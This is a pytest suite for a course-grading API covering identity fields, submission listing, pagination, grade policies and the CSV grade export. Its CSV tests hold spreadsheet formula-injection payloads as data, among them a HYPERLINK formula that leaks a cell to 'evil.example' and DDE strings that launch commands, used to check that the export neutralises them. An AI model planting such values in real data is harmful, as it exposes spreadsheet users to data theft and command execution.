"""Identity, listing and the grades export over real HTTP, on SQLite and PostgreSQL: the platform's
ids are stored and filtered on, pages follow their cursor, and the gradebook applies the course's
policy (last or best attempt, a veto capped or zero). Submissions here are cheap (graded in
milliseconds without a sandbox); points are given by real TA decisions."""
from __future__ import annotations

import csv
import io
import uuid
from datetime import datetime, timedelta, timezone

import pytest

from tests.api.support import cheap_body, error_locs, wait_final

pytestmark = pytest.mark.sandbox


def identity(student: str, *, assignment: str = "hw6", attempt: int | None = None, **extra) -> dict:
    return {"assignment": assignment, "student": {"id": student, "name": f"Student {student}",
                                                  "email": f"{student}@example.org"},
            **({"attempt": attempt} if attempt is not None else {}), **extra}


def submit(client, **fields) -> str:
    response = client.post("/v1/submissions", json={**cheap_body(), **fields})
    assert response.status_code == 202, response.text
    return response.json()["id"]


def give(client, submission_id: str, points: float, item: str = "q1") -> None:
    response = client.post(f"/v1/submissions/{submission_id}/decisions",
                           json={"item": item, "points": points, "reason": "TA re-read the answer"})
    assert response.status_code == 201, response.text


def test_identity_is_stored_and_shown(course):
    client = course.client()
    submission_id = submit(client, **identity("u1", attempt=2, external_ref="lms:42", language="en"))
    view = wait_final(client, submission_id)
    assert view["assignment"] == "hw6" and view["attempt"] == 2 and view["external_ref"] == "lms:42"
    assert view["student"] == {"id": "u1", "name": "Student u1", "email": "u1@example.org"}
    assert view["language"] == "en"
    bare = wait_final(client, submit(client))
    assert bare["assignment"] is None and bare["student"] is None and bare["attempt"] is None


@pytest.mark.parametrize(("fields", "named"), [
    ({"student": {"id": "u1", "email": "not an address"}}, "student.email"),
    ({"student": {"id": ""}}, "student.id"),
    ({"student": {"name": "no id"}}, "student.id"),
    ({"student": {"id": "u1", "role": "admin"}}, "student.role"),
    ({"assignment": "hw\n6"}, "assignment"),
    ({"assignment": " hw6"}, "assignment"),
    ({"attempt": 0}, "attempt"),
    ({"attempt": "two"}, "attempt"),
    ({"external_ref": "x" * 201}, "external_ref"),
    ({"language": "fr"}, "language"),
])
def test_a_malformed_identity_field_is_422_naming_it(course, fields, named):
    response = course.client().post("/v1/submissions", json={**cheap_body(), **fields})
    assert response.status_code == 422, response.text
    assert named in error_locs(response)
    assert course.submission_count() == 0


def test_listing_filters_and_unknown_values_give_empty_pages(course):
    client = course.client()
    a1 = submit(client, **identity("alice", attempt=1))
    a2 = submit(client, **identity("alice", attempt=2))
    b1 = submit(client, **identity("bob", assignment="hw7"))
    plain = submit(client)
    for submission_id in (a1, a2, b1, plain):
        wait_final(client, submission_id)
    give(client, a2, 1.5)  # a decision: a2 stays graded, with the TA's points in its score

    def ids(**params) -> list[str]:
        response = client.get("/v1/submissions", params=params)
        assert response.status_code == 200, response.text
        return [item["id"] for item in response.json()["items"]]

    assert ids() == [plain, b1, a2, a1], "newest first"
    assert ids(assignment="hw6") == [a2, a1]
    assert ids(student="alice") == [a2, a1]
    assert ids(student="alice", assignment="hw7") == []
    assert ids(assignment="no-such-assignment") == [] and ids(student="nobody") == []
    assert ids(status="graded") == [plain, b1, a2, a1]
    assert ids(status="queued") == []
    listed = client.get("/v1/submissions", params={"student": "alice"}).json()["items"]
    assert listed[0]["score"]["total"] == 1.5 and listed[0]["attempt"] == 2
    assert listed[0]["student"]["email"] == "alice@example.org"
    assert ids(needs_review=False) == [plain, b1, a2, a1]
    future = (datetime.now(timezone.utc) + timedelta(hours=1)).isoformat()
    assert ids(created_after=future) == [] and len(ids(created_before=future)) == 4
    # Times in another zone mean the same instant (stored times are UTC; SQLite compares text).
    created = datetime.fromisoformat(listed[0]["created_at"])
    beijing = timezone(timedelta(hours=8))
    assert ids(created_after=(created - timedelta(microseconds=1)).astimezone(beijing).isoformat())[-1] == a2
    assert a2 not in ids(created_after=(created + timedelta(microseconds=1)).astimezone(beijing).isoformat())
    assert course.service.new_course().client("read").get("/v1/submissions").json()["items"] == [], \
        "another course sees nothing"


def test_listing_pages_follow_their_cursor(course):
    client = course.client()
    made = [submit(client, **identity(f"s{i}")) for i in range(5)]
    seen, cursor, pages = [], None, 0
    while True:
        params = {"limit": 2, **({"cursor": cursor} if cursor else {})}
        page = client.get("/v1/submissions", params=params).json()
        seen += [item["id"] for item in page["items"]]
        pages += 1
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert pages == 3 and seen == list(reversed(made)), "every submission once, newest first"


@pytest.mark.parametrize("params", [{"cursor": "not-a-cursor"}, {"limit": 0}, {"limit": 201}, {"status": "done"},
                                    {"created_after": "yesterday"}, {"needs_review": "maybe"}])
def test_malformed_listing_parameters_are_422_naming_them(course, params):
    response = course.client("read").get("/v1/submissions", params=params)
    assert response.status_code == 422, response.text
    assert error_locs(response) == list(params)


def test_listing_needs_the_read_scope(course):
    assert course.client("submit").get("/v1/submissions").status_code == 403


def _book(client, **params) -> dict:
    response = client.get("/v1/grades", params=params)
    assert response.status_code == 200, response.text
    return response.json()


def test_the_gradebook_counts_the_last_or_the_best_attempt(course):
    client = course.client()
    admin = course.client("admin")
    first = submit(client, **identity("carol", attempt=1))
    second = submit(client, **identity("carol", attempt=2))
    other = submit(client, **identity("dave", attempt=1))
    stray = submit(client, assignment="hw6")  # no student: in no row
    for submission_id in (first, second, other, stray):
        wait_final(client, submission_id)
    give(client, first, 2)  # attempt 1 earns 2 points, attempt 2 none

    book = _book(client, assignment="hw6")
    assert book["policy"] == {"grade_policy": "last", "veto_policy": "capped", "hint_cost": 0.0}, "the defaults"
    assert book["unattributed"] == 1
    rows = {row["student_id"]: row for row in book["rows"]}
    assert set(rows) == {"carol", "dave"}
    carol = rows["carol"]
    assert carol["submission_id"] == second and carol["points"] == 0 and carol["graded_attempts"] == 2
    assert carol["state"] == "final" and carol["student_email"] == "carol@example.org"
    assert carol["blocking"].startswith("veto:") and carol["blocking"].endswith(":confirmed")
    assert carol["rule"] == "total", "below the pass line: nothing to cap"

    assert admin.put("/v1/course/policy", json={"grade_policy": "best"}).json()["grade_policy"] == "best"
    carol = {r["student_id"]: r for r in _book(client, assignment="hw6")["rows"]}["carol"]
    assert carol["submission_id"] == first and carol["points"] == 2
    assert carol["ta_decisions"] and carol["ta_decisions"][0].startswith("item:q1 0→2")

    export = client.get("/v1/grades", params={"assignment": "hw6", "format": "csv"})
    assert export.status_code == 200 and export.headers["content-type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(export.text)))
    assert [(r["student_id"], r["points"], r["state"]) for r in table] == [("carol", "2.0", "final"), ("dave", "0.0", "final")]
    assert _book(client, assignment="no-such-assignment")["rows"] == []


def test_a_student_with_no_graded_attempt_has_an_empty_row(service, course):
    client = course.client()
    held = service.block_queue(course, body={**cheap_body(), **identity("erin")})
    row = {r["student_id"]: r for r in _book(client)["rows"]}["erin"]
    assert row["state"] == "none" and row["points"] is None and row["in_progress"] == 1
    assert row["submission_id"] is None, held.id


def test_the_course_policy_needs_the_admin_scope_and_known_values(course):
    assert course.client("review").put("/v1/course/policy", json={"veto_policy": "zero"}).status_code == 403
    admin = course.client("admin")
    refused = admin.put("/v1/course/policy", json={"veto_policy": "half"})
    assert refused.status_code == 422 and error_locs(refused) == ["veto_policy"]
    assert admin.put("/v1/course/policy", json={"veto_policy": "zero"}).json() == {"grade_policy": "last",
                                                                                   "veto_policy": "zero",
                                                                                   "hint_cost": 0.0}
    assert course.client("read").get("/v1/course").json()["policy"]["veto_policy"] == "zero"


def test_csv_cells_are_never_formulas(course):
    client = course.client()
    wait_final(client, submit(client, assignment="hw6",
                              student={"id": "=HYPERLINK(\"x\")", "name": "@SUM(A1)"}))
    text = client.get("/v1/grades", params={"format": "csv"}).text
    row = list(csv.DictReader(io.StringIO(text)))[0]
    assert row["student_id"].startswith("'=") and row["student_name"].startswith("'@")


# A name is the student's own (Gradescope's profile, an LMS's display name): `storable` only, so it may
# start with blanks, a line break or an invisible character before the formula.
DISGUISED_FORMULAS = ["\n=HYPERLINK(\"https://evil.example/?\"&A2,\"open\")", " =1+1", "\u00a0\u00a0@SUM(A1:A9)",
                      "\u200b=cmd|' /C calc'!A0", "\r\n+1+cmd|' /C calc'!A0", "\uff1d1+1", "\t -2+3"]
DISGUISED_AS_EXPORTED = ["'\n'=HYPERLINK(\"https://evil.example/?\"&A2,\"open\")", "' =1+1", "'\u00a0\u00a0@SUM(A1:A9)",
                         "'\u200b=cmd|' /C calc'!A0", "'\r'\n'+1+cmd|' /C calc'!A0", "'\uff1d1+1", "'\t' -2+3"]


def test_csv_cells_behind_blanks_are_never_formulas(course):
    """spreadsheet_safe looked at the first character only: a name of a line break (or blanks, or a
    zero-width space) and then `=HYPERLINK(...)` went into the gradebook CSV as it was. The
    gradebook, the dashboard and the TA decisions now share one check that looks past them."""
    client = course.client()
    for number, name in enumerate(DISGUISED_FORMULAS):
        wait_final(client, submit(client, assignment="hw6", student={"id": f"s{number}", "name": name}))
    text = client.get("/v1/grades", params={"format": "csv"}).text
    names = {row["student_id"]: row["student_name"] for row in csv.DictReader(io.StringIO(text))}
    # a quote in front, and after every separator a spreadsheet of another locale may start a cell at
    # (tests/unit/test_spreadsheet_safe.py): a tab-separated reading starts one after "\t"
    assert names == {f"s{n}": name for n, name in enumerate(DISGUISED_AS_EXPORTED)}, names
    honest = ["Zhang San", "李四", "O'Brien", "Ann-Marie", "x = 1"]
    for number, name in enumerate(honest):
        wait_final(client, submit(client, assignment="hw7", student={"id": f"h{number}", "name": name}))
    text = client.get("/v1/grades", params={"format": "csv", "assignment": "hw7"}).text
    assert [row["student_name"] for row in csv.DictReader(io.StringIO(text))] == honest, "honest names unchanged"


def test_identity_keeps_idempotency_honest(course):
    client = course.client()
    key = f"k-{uuid.uuid4().hex}"
    body = {**cheap_body(), **identity("frank")}
    first = client.post("/v1/submissions", json=body, headers={"Idempotency-Key": key})
    again = client.post("/v1/submissions", json=body, headers={"Idempotency-Key": key})
    assert first.json()["id"] == again.json()["id"]
    other = client.post("/v1/submissions", json={**body, "student": {"id": "gina"}}, headers={"Idempotency-Key": key})
    assert other.status_code == 409, "the same key for another student is a conflict, not the same submission"
